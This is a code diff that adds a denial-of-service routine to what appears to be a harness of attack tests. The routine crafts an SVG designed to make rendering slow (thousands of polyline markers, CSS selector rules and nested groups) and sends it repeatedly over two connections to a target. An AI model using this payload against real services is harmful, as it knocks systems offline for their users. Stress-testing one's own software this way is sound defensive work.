@@ -243,6 +243,30 @@ def flood(port, target):
     return []
 
 
+@attack("two pages with three drawings each that take long, again and again")
+def slow_drawings(port, target):
+    vertices = " ".join(f"{x % 700},{x % 500}" for x in range(3000))
+    marker = "<path d='M0 0h1'/>" * 6
+    rules = "".join(f"g.a{i} &gt; rect:not(.b{i}){{fill:red}}" for i in range(3000))
+    groups = "".join(f"<g class='a{i}'><rect class='c{i}' width='1' height='1'/></g>" for i in range(6000))
+    svg = ("<svg xmlns='http://www.w3.org/2000/svg' width='700' height='500'>"
+           f"<style>{rules}</style><marker id='m'>{marker}</marker><polyline points='{vertices}' marker-mid='url(#m)'/>{groups}</svg>")
+    call = target.drawing(svg)
+    if not call:
+        return []
+    pages = [client.handshake(port)[0] for _ in range(2)]
+    for page in pages:
+        threading.Thread(target=drain, args=(page,), daemon=True).start()
+
+    def draw():
+        for page in pages:
+            for _ in range(3):
+                page.sendall(client.frame(call))
+        time.sleep(1)
+    again_and_again(5, draw)
+    return []
+
+
 def drain(found):
     try:
         while found.recv(1 << 16):
